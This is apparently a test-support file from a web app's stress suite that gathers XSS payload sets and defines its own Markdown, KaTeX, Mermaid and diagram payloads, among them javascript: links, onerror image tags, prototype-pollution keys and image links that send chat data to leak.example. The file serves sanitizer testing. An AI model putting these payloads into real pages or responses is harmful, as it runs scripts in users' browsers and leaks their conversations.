import { existsSync, readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { isObject, listOf } from '@/lib/responses/guards'
import { projectRoot } from '../../support/next-server'

/**
 * The location of larger sets: `{ "items": [...] }` of texts, or of objects that contain one. The long form uses all.
 */
const elsewhere = process.env['PAYLOADS']

/** Whether to try all sets in all ways, which takes minutes. */
export const isLong = elsewhere !== undefined

const sets: ReadonlySet<string> = new Set([
  'h5sc.json',
  'dompurify-fixtures.json',
  'patt-xss.json',
  'blns.json',
  'mermaid-xss.json',
])

/** What the sets lack: leaks that only Markdown allows, and names that every object has by default. */
const ours: readonly string[] = [
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt&colon;alert(1))',
  '[click](java\nscript:alert(1))',
  '[click](\u0001javascript:alert(1))',
  '[click](data:text/html,<script>alert(1)</script>)',
  '[click](vbscript:alert(1))',
  '[click](blob:https://leak.example/x)',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '![x](https://leak.example/?chat=secret)',
  '![x](//leak.example/y)',
  '[![x](https://leak.example/z.png)](https://leak.example)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
  '![a"onerror="alert(1)](https://leak.example "b"onload="alert(1)")',
  '```html"><img/src=x/onerror=alert(1)>\n<script>alert(1)</script>\n```',
  '[^<img/src=x/onerror=alert(1)>]\n\n[^<img/src=x/onerror=alert(1)>]: <script>alert(1)</script>',
  '[^__proto__] [^constructor]\n\n[^__proto__]: a\n\n[^constructor]: b',
  '[__proto__] [constructor] [toString]\n\n[__proto__]: https://a.example\n[constructor]: https://b.example',
  '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '<link rel="preconnect" href="https://leak.example"><link rel=dns-prefetch href=//leak.example>',
  String.raw`\(\href{javascript:alert(1)}{x}\) and \[\url{https://leak.example/u}\]`,
  String.raw`\(\includegraphics{https://leak.example/x.png}\)`,
  String.raw`\(\htmlStyle{background:url(https://leak.example/s)}{x}\) \(\class{a" onclick="alert(1)}{y}\)`,
  String.raw`\(\htmlData{x=1}{y}\) \(\id{body}{x}\) \(\htmlId{__proto__}{x}\)`,
  String.raw`\[\text{<img src=x onerror=alert(1)>} \mathrm{<script>alert(1)</script>}\]`,
  String.raw`$$\color{url(https://leak.example/c)}{x} \colorbox{red;background:url(https://leak.example/b)}{y}$$`,
  '```mermaid\n%%{init: {"themeCSS": "} *:has(a) { background: url(https://leak.example/m) }", "__proto__": {"polluted": 1}}}%%\nflowchart LR\nA --> B\nclick A "javascript:alert(1)"\n```',
  '```mermaid\nflowchart LR\nA --> B\nclassDef a fill:red;}*{background:url(https://leak.example/n)}\nclass A a\n```',
  '```mermaid"><img/src=x/onerror=alert(1)>\nflowchart LR\nA --> B\n```',
  '```dot\ndigraph { A [URL="javascript:alert(1)", image="https://leak.example/o.png"]; A -> "<script>alert(1)</script>" }\n```',
  '```vega-lite\n{"data":{"url":"https://leak.example/p.csv"},"mark":"bar","title":"<img src=x onerror=alert(1)>"}\n```',
  String.raw`\(\def\a{\a\a}\a\) \(\gdef\__proto__{x}\) \(\rule{1em}{9999999em}\)`,
]

/** All payloads, each once. */
export function readPayloads(): readonly string[] {
  const directories = [
    join(projectRoot, 'e2e/stress/payloads/sets'),
    ...(elsewhere === undefined ? [] : [elsewhere]),
  ]
  const files = directories
    .filter((path) => existsSync(path))
    .flatMap((path) => readdirSync(path).map((name) => [path, name] as const))
  const found = files
    .filter(([, name]) => sets.has(name))
    .flatMap(([path, name]) => textsOf(readFileSync(join(path, name), 'utf8')))
  return [...new Set([...ours, ...found])].filter((text) => text.trim() !== '')
}

function textsOf(file: string): readonly string[] {
  const read: unknown = JSON.parse(file)
  return listOf(isObject(read) ? read['items'] : read).flatMap((item) => {
    const text = isObject(item) ? (item['data'] ?? item['payload'] ?? item['diagram']) : item
    return typeof text === 'string' ? [text] : []
  })
}
